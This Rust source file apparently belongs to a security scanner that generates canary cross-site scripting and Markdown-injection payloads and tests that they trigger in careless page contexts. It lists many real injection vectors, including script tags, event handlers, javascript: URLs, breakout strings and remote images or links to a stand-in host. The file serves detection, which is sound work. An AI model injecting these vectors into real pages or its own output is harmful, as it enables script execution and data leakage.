//! Texts that become more than text where a page forgets that they are others': markup, attributes, addresses, Markdown.
//!
//! Each holds a random word wherever it would do something, and another one in front, by which it is seen that the text
//! came to a page at all. What a text refers to stands in a line before it.

use portcullis_core::secret::random_bytes;

/// Stands for the random word.
const WORD: &str = "{w}";
/// The domain of hosts that nothing may lead to (RFC 2606).
const COLLECTS: &str = "collect.example";

/// What a harmless text is made of.
const FILLING: &str = "and words that mean no harm and are there to be read to the last of them";

/// What a page may keep, forward or render.
const STORED: &[&str] = &[
    "<script>{w}()</script>",
    "\"><script>{w}()</script>",
    "'><img src=x onerror={w}()>",
    "<img src=x onerror={w}()>",
    "<svg onload={w}()>",
    "<svg><script>{w}()</script></svg>",
    "<math><a xlink:href=\"javascript:{w}()\">x</a></math>",
    "<a href=\"javascript:{w}()\">x</a>",
    "<a href=\" java&#9;script:{w}()\">x</a>",
    "<iframe srcdoc=\"<script>{w}()</script>\"></iframe>",
    "<iframe src=\"javascript:{w}()\"></iframe>",
    "<object data=\"data:text/html,<script>{w}()</script>\"></object>",
    "<embed src=\"https://{w}.{c}/e\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://{w}.{c}/\">",
    "<base href=\"https://{w}.{c}/\">",
    "<form action=\"https://{w}.{c}/\"><button>x</button></form>",
    "<button formaction=\"javascript:{w}()\">x</button>",
    "<style>@import \"https://{w}.{c}/s\"</style>",
    "<p style=\"background:url(https://{w}.{c}/b)\">x</p>",
    "<link rel=\"stylesheet\" href=\"https://{w}.{c}/l\">",
    "<input autofocus onfocus=\"{w}()\">",
    "<details open ontoggle=\"{w}()\">x</details>",
    "</textarea></title></style><script>{w}()</script>",
    "</script><script>{w}()</script>",
    "--><img src=x onerror={w}()>",
    "<noscript><p title=\"</noscript><img src=x onerror={w}()>\"></noscript>",
    "<svg></p><style><a id=\"</style><img src=x onerror={w}()>\">",
    "\" autofocus onfocus=\"{w}()",
    "' onmouseover='{w}()",
    "&lt;img src=x onerror={w}()&gt;",
    "<img name=\"{w}\">",
    "<x-{w} onclick={w}()>x",
    "<img src=\"https://{w}.{c}/p.png\">",
    "![x](https://{w}.{c}/p.png)",
    "![x](x \"y\"onerror={w}())",
    "![x\"onerror=\"{w}()](x)",
    "[x](javascript:{w}())",
    "[x](data:text/html,<script>{w}()</script>)",
    "[x](https://{w}.{c}/a)",
    "![x](//{w}.{c}/p.png)",
    "[x](//{w}.{c}/a)",
    "`</code><script>{w}()</script>`",
    "<javascript:{w}()>",
    "<https://{w}.{c}/a>",
    "javascript:{w}()",
    "https://{w}.{c}/a",
    "www.{w}.{c}/a",
];

/// The same in two lines: Markdown that takes its address from elsewhere in the text.
const REFERRING: &[(&str, &str)] = &[
    ("[r]: javascript:{w}()", "[x][r]"),
    ("[r]: data:text/html,<script>{w}()</script>", "[r]"),
    ("[r]: https://{w}.{c}/a", "[x][r]"),
    ("[r]: //{w}.{c}/a", "[r][]"),
    ("[r]: https://{w}.{c}/p.png", "![x][r]"),
    ("[r]: //{w}.{c}/p.png", "![r]"),
];

/// What a page that makes elements of some texts makes of harmless ones.
const RENDERED: &[(Kind, &str)] = &[
    (Kind::Element, "<b>{w}</b> <em>{w}</em> <i>{w}</i> <p>{w}</p>"),
    (Kind::Markdown, "**{w}** *{w}* `{w}`"),
];

/// What a page may repeat of the request that asked for it.
const REFLECTED: &[&str] = &[
    "<script>{w}()</script>",
    "\"><img src=x onerror={w}()>",
    "'><svg onload={w}()>",
    "\" autofocus onfocus=\"{w}()",
    "' onmouseover='{w}()",
    "javascript:{w}()",
    "</title></textarea></script><script>{w}()</script>",
    "--><img src=x onerror={w}()>",
];

/// What a page must not make of a text.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(in crate::checks) enum Kind {
    Element,
    Attribute,
    Markdown,
    /// A bare address, which many a filter of answers takes out as a whole, or markup that is escaped already.
    Other,
}

impl Kind {
    /// Those of which some text must come to a page before anything is said about that page.
    pub(in crate::checks) const TOLD: [Self; 3] = [Self::Element, Self::Attribute, Self::Markdown];

    pub(in crate::checks) const fn words(self) -> &'static str {
        match self {
            Self::Element => "elements",
            Self::Attribute => "quotes that end an attribute",
            Self::Markdown => "Markdown",
            Self::Other => "addresses",
        }
    }

    fn of(form: &str) -> Self {
        if form.contains("](") || form.contains("![") {
            Self::Markdown
        } else if form.starts_with("<javascript:") || form.starts_with("<https:") {
            Self::Other
        } else if form.contains('<') {
            Self::Element
        } else if form.starts_with(['"', '\'']) {
            Self::Attribute
        } else {
            Self::Other
        }
    }
}

/// A text to put in, and how it is found again.
#[derive(Debug, Clone)]
pub(in crate::checks) struct Payload {
    /// The word in whatever would do something.
    pub(in crate::checks) word: String,
    pub(in crate::checks) kind: Kind,
    /// The text that would.
    pub(in crate::checks) bait: String,
    /// A line before it that it refers to.
    pub(in crate::checks) definition: Option<String>,
    /// Another word at its end, by which it is seen that all of it came.
    pub(in crate::checks) end: Option<String>,
}

impl Payload {
    fn new(form: &str) -> Self {
        let word = word();
        let bait = filled(form, &word);
        Self { kind: Kind::of(form), bait, definition: None, word, end: None }
    }

    fn referring(definition: &str, form: &str) -> Self {
        let word = word();
        let definition = Some(filled(definition, &word));
        Self { kind: Kind::Markdown, bait: form.to_owned(), definition, word, end: None }
    }

    /// Harmless texts that a page may make elements of.
    pub(in crate::checks) fn rendered() -> Vec<Self> {
        RENDERED.iter().map(|(kind, form)| Self { kind: *kind, ..Self::new(form) }).collect()
    }

    /// The word in front.
    pub(in crate::checks) fn before(&self) -> String {
        format!("seen{}", self.word)
    }

    /// Its lines.
    pub(in crate::checks) fn lines(&self) -> Vec<String> {
        let last = format!("{} {}", self.before(), self.bait);
        self.definition.iter().cloned().chain([last]).collect()
    }

    /// All of it.
    pub(in crate::checks) fn text(&self) -> String {
        self.lines().join("\n")
    }

    /// What of it would do something, for messages.
    pub(in crate::checks) fn active(&self) -> String {
        self.definition.iter().chain([&self.bait]).map(String::as_str).collect::<Vec<_>>().join(" ")
    }

    /// A text like these that is harmless everywhere, as long as the longest of them: where a page cuts it, nothing shows
    /// that the others came whole.
    pub(in crate::checks) fn harmless() -> Self {
        let longest = Self::stored().iter().map(|payload| payload.active().len()).max().unwrap_or_default();
        let (word, end) = (word(), self::word());
        let mut bait = word.clone();
        for filling in FILLING.split(' ').cycle() {
            if bait.len() + 1 + end.len() >= longest {
                break;
            }
            bait.push(' ');
            bait.push_str(filling);
        }
        bait.push(' ');
        bait.push_str(&end);
        Self { word, kind: Kind::Other, bait, definition: None, end: Some(end) }
    }

    pub(in crate::checks) fn stored() -> Vec<Self> {
        let referring = REFERRING.iter().map(|(definition, form)| Self::referring(definition, form));
        STORED.iter().map(|form| Self::new(form)).chain(referring).collect()
    }

    pub(in crate::checks) fn reflected() -> Vec<Self> {
        REFLECTED.iter().map(|form| Self::new(form)).collect()
    }
}

fn filled(form: &str, word: &str) -> String {
    form.replace(WORD, word).replace("{c}", COLLECTS)
}

/// A random word of letters that stand in no word of any language next to each other.
pub(in crate::checks) fn word() -> String {
    const LETTERS: &[u8; 16] = b"bcdfghjkmnpqrtvw";
    let letter = |byte: &u8| char::from(LETTERS.get(usize::from(*byte % 16)).copied().unwrap_or(b'x'));
    random_bytes::<14>().iter().map(letter).collect()
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::{Kind, Payload};
    use crate::checks::markup::sinks::{Author, sinks};

    #[test]
    fn every_text_has_a_word_of_its_own_and_no_hole() {
        let all: Vec<Payload> = Payload::stored().into_iter().chain(Payload::reflected()).collect();
        let words: BTreeSet<&str> = all.iter().map(|payload| payload.word.as_str()).collect();
        assert_eq!(words.len(), all.len());
        for payload in &all {
            let active = payload.active();
            assert!(active.contains(&payload.word) && !active.contains("{w}"), "{payload:?}");
        }
    }

    #[test]
    fn the_harmless_text_is_as_long_as_any_and_ends_in_a_word_of_its_own() {
        let harmless = Payload::harmless();
        let end = harmless.end.as_deref().unwrap();
        assert!(harmless.bait.ends_with(end) && harmless.bait.starts_with(&harmless.word));
        assert!(end != harmless.word && !harmless.bait.contains(['<', '"', '(']));
        assert!(Payload::stored().iter().all(|payload| payload.text().len() <= harmless.text().len()));
    }

    /// A text that is harmless wherever it is put raw would prove nothing.
    #[test]
    fn every_text_does_something_in_some_careless_place() {
        let markdown = |payload: &Payload| {
            // The most careless renderer there is: it puts what it finds into attributes as it stands.
            let bait = payload.bait.as_str();
            if let Some((_, address)) = payload.definition.as_ref().and_then(|line| line.split_once(": ")) {
                let (tag, attribute) = if bait.starts_with('!') { ("img", "src") } else { ("a", "href") };
                return format!("<{tag} {attribute}=\"{address}\">");
            }
            if let Some(address) = bait.strip_prefix('<').and_then(|rest| rest.strip_suffix('>')) {
                return format!("<a href=\"{address}\">x</a>");
            }
            let (text, address) = bait.trim_start_matches('!').split_once("](").unwrap_or((bait, ""));
            let (text, address) = (text.trim_start_matches('['), address.trim_end_matches(')'));
            match bait.starts_with('!') {
                true => format!("<img alt=\"{text}\" src=\"{}\">", address.replacen(' ', "\" title=", 1)),
                false => format!("<a href=\"{address}\">{text}</a>"),
            }
        };
        for payload in Payload::stored().into_iter().chain(Payload::reflected()) {
            let bait = payload.bait.as_str();
            let places = [
                format!("<p>{bait}</p>"),
                format!("<input value=\"{bait}\">"),
                format!("<input value='{bait}'>"),
                format!("<title>{bait}</title>"),
                format!("<a href=\"{bait}\">x</a>"),
                format!("<script type=\"application/json\">{{\"title\":\"{bait}\"}}</script>"),
                format!("<!-- {bait} -->"),
                format!("<a href=\"//{bait}\">x</a>"),
                bait.replace("&lt;", "<").replace("&gt;", ">"),
                markdown(&payload),
            ];
            let found = places.iter().any(|page| !sinks(page, &payload.word, Author::Model).is_empty());
            assert!(found, "{bait}");
        }
    }

    #[test]
    fn there_are_several_texts_of_every_kind() {
        let stored = Payload::stored();
        for kind in Kind::TOLD {
            let of: Vec<&str> = stored
                .iter()
                .filter(|payload| payload.kind == kind)
                .map(|payload| payload.bait.as_str())
                .collect();
            assert!(of.len() >= 2, "{kind:?}: {of:?}");
        }
        assert!(Payload::rendered().iter().all(|payload| payload.bait.contains(&payload.word)));
    }

    /// A careless place that no text gets out of would never be found.
    #[test]
    fn some_text_gets_out_of_every_careless_place() {
        for payloads in [Payload::stored(), Payload::reflected()] {
            for (before, after) in [
                ("<p>", "</p>"),
                ("<input value=\"", "\">"),
                ("<input value='", "'>"),
                ("<title>", "</title>"),
                ("<textarea>", "</textarea>"),
                ("<script type=\"application/json\">{\"title\":\"", "\"}</script>"),
                ("<!-- ", " -->"),
            ] {
                let gets_out = |payload: &Payload| {
                    let page = format!("{before}{}{after}", payload.text());
                    !sinks(&page, &payload.word, Author::Member).is_empty()
                };
                assert!(payloads.iter().any(gets_out), "{before}");
            }
        }
    }
}
